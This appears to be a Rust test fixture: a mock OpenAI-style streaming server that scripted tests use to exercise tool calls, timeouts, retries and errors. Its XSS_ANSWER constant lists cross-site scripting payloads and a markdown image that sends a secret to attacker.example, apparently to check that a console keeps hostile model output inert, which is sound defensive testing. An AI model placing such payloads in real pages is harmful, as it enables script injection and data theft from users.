//! A local server that speaks the OpenAI Chat Completions wire format
//! (streamed `chat.completion.chunk`s, tool-call deltas, the usage chunk,
//! `[DONE]`, error bodies), scripted by the conversation's first user
//! message, for the run tests and the fault tests.

use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::body::{Body, Bytes};
use axum::extract::State;
use axum::response::Response;
use futures_util::StreamExt;
use serde_json::{json, Value};

/// What the scripted vendor received.
#[derive(Clone, Default)]
pub struct Vendor {
    /// Every request body, in arrival order.
    pub requests: Arc<Mutex<Vec<Value>>>,
    flaky: Arc<AtomicUsize>,
    /// Pause before each chunk of a `calc` answer, in milliseconds.
    pub pause_ms: Arc<AtomicU64>,
    /// When each `slow` answer sent its first word (ms since the epoch).
    pub first_word_ms: Arc<Mutex<Vec<u128>>>,
}

fn chunk(delta: Value, finish: Option<&str>) -> String {
    format!(
        "data: {}\n\n",
        json!({
            "id": "chatcmpl-run", "object": "chat.completion.chunk", "created": 1727346173,
            "model": "gpt-test", "system_fingerprint": "fp_test",
            "choices": [{ "index": 0, "delta": delta, "logprobs": null, "finish_reason": finish }]
        })
    )
}

fn usage_chunk(prompt: u64, completion: u64) -> String {
    format!(
        "data: {}\n\n",
        json!({
            "id": "chatcmpl-run", "object": "chat.completion.chunk", "created": 1727346173,
            "model": "gpt-test", "system_fingerprint": "fp_test", "choices": [],
            "usage": { "prompt_tokens": prompt, "completion_tokens": completion,
                       "total_tokens": prompt + completion,
                       "completion_tokens_details": { "reasoning_tokens": 0 } }
        })
    )
}

/// A streamed text answer.
fn text_answer(text: &str) -> Vec<String> {
    let mut out = vec![chunk(
        json!({ "role": "assistant", "content": "", "refusal": null }),
        None,
    )];
    for piece in text.split_inclusive(' ') {
        out.push(chunk(json!({ "content": piece }), None));
    }
    out.push(chunk(json!({}), Some("stop")));
    out.push(usage_chunk(10, 5));
    out.push("data: [DONE]\n\n".into());
    out
}

/// Markup a hostile model could write: none of it may run in the console.
pub const XSS_ANSWER: &str = "Payloads follow.\n\n\
<script>window.__xss = 'script'</script>\n\n\
<img src=x onerror=\"window.__xss = 'img'\">\n\n\
[click me](javascript:window.__xss='link')\n\n\
<a href=\"javascript:window.__xss='anchor'\">anchor</a>\n\n\
<svg onload=\"window.__xss='svg'\"><script>window.__xss='svg-script'</script></svg>\n\n\
<iframe src=\"javascript:parent.__xss='iframe'\"></iframe>\n\n\
<div class=\"modal\" style=\"position:fixed;inset:0\">cover</div>\n\n\
&lt;script&gt;window.__xss='entity'&lt;/script&gt; &amp;lt;b&amp;gt;\n\n\
![exfiltrate](https://attacker.example/?q=secret)\n\n\
<details open ontoggle=\"window.__xss='details'\">x</details>\n\n\
End of payloads.";

/// A streamed answer asking for tool calls (arguments in two fragments).
fn tool_answer(calls: &[(&str, &str, Value)]) -> Vec<String> {
    let mut out = vec![chunk(json!({ "role": "assistant", "content": null }), None)];
    for (i, (id, name, args)) in calls.iter().enumerate() {
        out.push(chunk(
            json!({ "tool_calls": [{ "index": i, "id": id, "type": "function",
                                      "function": { "name": name, "arguments": "" } }] }),
            None,
        ));
        let text = args.to_string();
        let (a, b) = text.split_at(text.len() / 2);
        for part in [a, b] {
            out.push(chunk(
                json!({ "tool_calls": [{ "index": i, "function": { "arguments": part } }] }),
                None,
            ));
        }
    }
    out.push(chunk(json!({}), Some("tool_calls")));
    out.push(usage_chunk(20, 7));
    out.push("data: [DONE]\n\n".into());
    out
}

fn sse(chunks: Vec<String>, pause: Duration) -> Response {
    sse_marked(chunks, pause, None)
}

/// A stream of `chunks`, `pause` before each; when the first word goes out
/// (the second chunk), the time is added to `first_word` (ms since the epoch).
fn sse_marked(
    chunks: Vec<String>,
    pause: Duration,
    first_word: Option<Arc<Mutex<Vec<u128>>>>,
) -> Response {
    let stream = futures_util::stream::iter(chunks)
        .enumerate()
        .then(move |(i, c)| {
            let first_word = first_word.clone();
            async move {
                if !pause.is_zero() {
                    tokio::time::sleep(pause).await;
                }
                if let (1, Some(marks)) = (i, first_word) {
                    let now = std::time::SystemTime::now()
                        .duration_since(std::time::UNIX_EPOCH)
                        .unwrap()
                        .as_millis();
                    marks.lock().unwrap().push(now);
                }
                Ok::<_, std::convert::Infallible>(Bytes::from(c))
            }
        });
    Response::builder()
        .status(200)
        .header("content-type", "text/event-stream")
        .body(Body::from_stream(stream))
        .unwrap()
}

fn error(status: u16, kind: &str, message: &str) -> Response {
    Response::builder()
        .status(status)
        .header("content-type", "application/json")
        .body(Body::from(
            json!({ "error": { "message": message, "type": kind, "param": null, "code": null } })
                .to_string(),
        ))
        .unwrap()
}

/// The tool results the request carries, in order.
fn tool_results(messages: &[Value]) -> Vec<String> {
    messages
        .iter()
        .filter(|m| m["role"] == "tool")
        .map(|m| m["content"].as_str().unwrap_or("").to_owned())
        .collect()
}

async fn complete(State(vendor): State<Vendor>, body: Bytes) -> Response {
    let request: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
    vendor.requests.lock().unwrap().push(request.clone());
    let messages = request["messages"].as_array().cloned().unwrap_or_default();
    let directive = messages
        .iter()
        .find(|m| m["role"] == "user")
        .and_then(|m| m["content"].as_str())
        .unwrap_or("")
        .to_owned();
    let results = tool_results(&messages);
    let steps = messages.iter().filter(|m| m["role"] == "assistant").count();
    let pause = Duration::from_millis(vendor.pause_ms.load(Ordering::Relaxed));
    match directive.as_str() {
        "calc" if results.is_empty() => sse(
            tool_answer(&[
                (
                    "call_a",
                    "calculator__evaluate",
                    json!({ "expression": "6*7" }),
                ),
                (
                    "call_b",
                    "calculator__evaluate",
                    json!({ "expression": "2+2" }),
                ),
            ]),
            pause,
        ),
        "calc" => sse(
            text_answer(&format!("The answers are {}.", results.join(" and "))),
            pause,
        ),
        "slow" => sse_marked(
            text_answer(&"tick ".repeat(40)),
            Duration::from_millis(100),
            Some(vendor.first_word_ms.clone()),
        ),
        "loop" => sse(
            tool_answer(&[(
                &format!("call_{steps}"),
                "calculator__evaluate",
                json!({ "expression": "1+1" }),
            )]),
            Duration::ZERO,
        ),
        "bad tool" if results.is_empty() => sse(
            tool_answer(&[
                ("call_x", "no_such__tool", json!({})),
                (
                    "call_y",
                    "calculator__evaluate",
                    json!({ "expression": "1/0" }),
                ),
            ]),
            Duration::ZERO,
        ),
        "bad tool" => sse(
            text_answer(&format!("errors: {}", results.join(" | "))),
            Duration::ZERO,
        ),
        "note" if results.is_empty() => sse(
            tool_answer(&[(
                "call_n",
                "notes__save",
                json!({ "title": "plan", "body": "ship it" }),
            )]),
            Duration::ZERO,
        ),
        "note" => sse(
            text_answer(&format!("tool said: {}", results.join(" | "))),
            Duration::ZERO,
        ),
        "sleepy" if results.is_empty() => sse(
            tool_answer(&[("call_s", "hostile__sleep", json!({}))]),
            Duration::ZERO,
        ),
        "sleepy" => sse(
            text_answer(&format!("tool said: {}", results.join(" | "))),
            Duration::ZERO,
        ),
        // `call <tool> <arguments JSON>`: one call of any tool, then the
        // tool's answer quoted.
        d if d.starts_with("call ") && results.is_empty() => {
            let (tool, args) = d[5..].split_once(' ').unwrap_or((&d[5..], "{}"));
            let args: Value = serde_json::from_str(args).unwrap_or(json!({}));
            sse(tool_answer(&[("call_t", tool, args)]), Duration::ZERO)
        }
        d if d.starts_with("call ") => {
            // The images the model was given, by type (never their data).
            let images: Vec<String> = messages
                .iter()
                .filter(|m| m["role"] == "user")
                .filter_map(|m| m["content"].as_array())
                .flatten()
                .filter(|p| p["type"] == "image_url")
                .map(|p| {
                    let url = p["image_url"]["url"].as_str().unwrap_or_default();
                    url.split(';').next().unwrap_or_default().to_owned()
                })
                .collect();
            let seen = if images.is_empty() {
                String::new()
            } else {
                format!(" (images: {})", images.join(", "))
            };
            sse(
                text_answer(&format!("tool said: {}{seen}", results.join(" | "))),
                Duration::ZERO,
            )
        }
        // `turns`: how many user messages the conversation has, and the
        // last one (a conversation that continues sends them all).
        "turns" => {
            let users: Vec<&str> = messages
                .iter()
                .filter(|m| m["role"] == "user")
                .filter_map(|m| m["content"].as_str())
                .collect();
            let last = users.last().copied().unwrap_or("");
            sse(
                text_answer(&format!("turn {}: {last}", users.len())),
                Duration::ZERO,
            )
        }
        // `xss`: an answer full of markup that must stay inert in a
        // browser (each payload would set `window.__xss`).
        "xss" => sse(
            vec![
                chunk(json!({ "role": "assistant", "content": "" }), None),
                chunk(json!({ "content": XSS_ANSWER }), None),
                chunk(json!({}), Some("stop")),
                usage_chunk(10, 5),
                "data: [DONE]\n\n".into(),
            ],
            Duration::ZERO,
        ),
        "fail" => error(400, "invalid_request_error", "This model does not exist"),
        "flaky" => {
            if vendor.flaky.fetch_add(1, Ordering::SeqCst) % 2 == 0 {
                error(503, "server_error", "The server is overloaded")
            } else {
                sse(text_answer("recovered"), Duration::ZERO)
            }
        }
        _ => sse(text_answer("Hello from the model."), Duration::ZERO),
    }
}

/// OpenAI's model list (`GET /v1/models`).
async fn models() -> axum::Json<Value> {
    axum::Json(json!({ "object": "list", "data": [
        { "id": "gpt-4o-mini", "object": "model", "created": 1721172741, "owned_by": "system" },
        { "id": "gpt-4o", "object": "model", "created": 1715367049, "owned_by": "system" }
    ]}))
}

/// Starts the scripted vendor on its own thread; returns its base URL
/// (ending in `/v1`).
pub fn vendor() -> (String, Vendor) {
    let vendor = Vendor::default();
    let app = axum::Router::new()
        .route("/v1/chat/completions", axum::routing::post(complete))
        .route("/v1/models", axum::routing::get(models))
        .with_state(vendor.clone());
    let base = format!("http://{}/v1", serve_in_thread(app));
    (base, vendor)
}

/// Serves `app` on a free loopback port from a thread and runtime of its
/// own (so that the server under test cannot starve it); returns the
/// address.
pub fn serve_in_thread(app: axum::Router) -> std::net::SocketAddr {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let addr = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        rt.block_on(async move {
            let listener = tokio::net::TcpListener::from_std(listener).unwrap();
            axum::serve(listener, app).await.unwrap();
        });
    });
    addr
}
